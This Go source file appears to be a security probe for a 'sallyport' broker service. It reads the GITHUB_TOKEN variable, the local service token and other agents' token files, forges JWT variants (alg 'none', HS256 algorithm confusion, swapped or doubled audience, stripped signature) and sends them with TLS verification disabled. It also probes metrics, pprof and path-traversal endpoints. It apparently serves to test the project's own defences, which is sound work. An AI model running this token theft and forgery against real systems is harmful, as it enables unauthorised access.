//go:build linux

package main

import (
	"bufio"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"time"
)

// broker asks for a stream with each token that an agent has or can make up, and
// prints what it got for it.
func broker(args []string) error {
	f := flag.NewFlagSet("broker", flag.ContinueOnError)
	addr := f.String("addr", "sallyport-broker.sallyport-system.svc:9443", "")
	real := f.String("token", "", "")
	if err := f.Parse(args); err != nil {
		return err
	}
	all := tokens()
	if *real != "" {
		all = map[string]string{"given": *real}
	}
	var answers []response
	for _, name := range slices.Sorted(maps.Keys(all)) {
		status, body := stream(*addr, "POST /v1/stream", all[name])
		answers = append(answers, response{name, status, body})
	}
	if *real == "" {
		for _, target := range []string{"GET /v1/stream", "POST /v1/ack", "GET /metrics", "GET /debug/pprof/heap", "GET /v1/stream/../../metrics", "GET /"} {
			status, body := stream(*addr, target, "")
			answers = append(answers, response{target, status, body})
		}
	}
	return json.NewEncoder(os.Stdout).Encode(answers)
}

// ownKey is the one that is shown as a sidecar shows its own: nobody signs it.
var ownKey = sync.OnceValues(func() (tls.Certificate, error) { return selfSigned("intruder") })

// stream asks once more where it was told that it asks too often.
func stream(addr, target, token string) (status int, body string) {
	own, err := ownKey()
	if err != nil {
		return 0, err.Error()
	}
	client := &http.Client{Timeout: exchangeLimit, Transport: &http.Transport{
		TLSClientConfig:   &tls.Config{InsecureSkipVerify: true, Certificates: []tls.Certificate{own}}, // whoever it is gets nothing of worth
		ForceAttemptHTTP2: true,
	}}
	method, path, _ := strings.Cut(target, " ")
	for range 10 {
		r, err := http.NewRequest(method, "https://"+addr, nil)
		if err != nil {
			return 0, err.Error()
		}
		r.URL.Opaque = path // as it is
		r.Header.Set("Sallyport-Document", "1000")
		if token != "" {
			r.Header.Set("Authorization", "Bearer "+strings.TrimSpace(token))
		}
		answer, err := client.Do(r)
		if err != nil {
			return 0, err.Error()
		}
		body, _ = bufio.NewReaderSize(answer.Body, 1<<20).ReadString('\n') // a stream goes on
		_ = answer.Body.Close()                                            // all was read that is wanted
		if status = answer.StatusCode; status != http.StatusTooManyRequests {
			break
		}
		<-time.After(time.Second)
	}
	return status, body
}

// tokens are those at hand and those that are forged of them.
func tokens() map[string]string {
	all := map[string]string{"none": "", "handle": os.Getenv("GITHUB_TOKEN"), "rubbish": "a.b.c"}
	own, err := os.ReadFile("/" + identity + "/token")
	if err == nil {
		all["own"] = string(own)
	}
	scoped, _ := filepath.Glob(shared + "/*/token") // the pattern is sound
	for _, path := range scoped {
		if text, err := os.ReadFile(path); err == nil {
			all["scoped"] = string(text)
		}
	}
	parts := strings.Split(string(own), ".")
	if len(parts) != 3 {
		return all
	}
	claims := map[string]any{}
	text, _ := base64.RawURLEncoding.DecodeString(parts[1])
	if json.Unmarshal(text, &claims) != nil {
		return all
	}
	claims["aud"] = []string{"broker.sallyport.dev"}
	forged := encode(claims)
	all["audience"] = parts[0] + "." + forged + "." + parts[2]
	all["none's algorithm"] = encode(map[string]any{"alg": "none", "typ": "JWT"}) + "." + forged + "."
	all["another algorithm"] = encode(map[string]any{"alg": "HS256", "typ": "JWT"}) + "." + forged + "." + encode("0123456789")
	all["two audiences"] = parts[0] + "." + encode(merge(claims, "aud", []string{"broker.sallyport.dev", "https://kubernetes.default.svc"})) + "." + parts[2]
	all["no signature"] = fmt.Sprintf("%s.%s.", parts[0], forged)
	return all
}

func merge(claims map[string]any, key string, value any) map[string]any {
	out := maps.Clone(claims)
	out[key] = value
	return out
}

func encode(v any) string {
	text, _ := json.Marshal(v) // of what was decoded
	return base64.RawURLEncoding.EncodeToString(text)
}
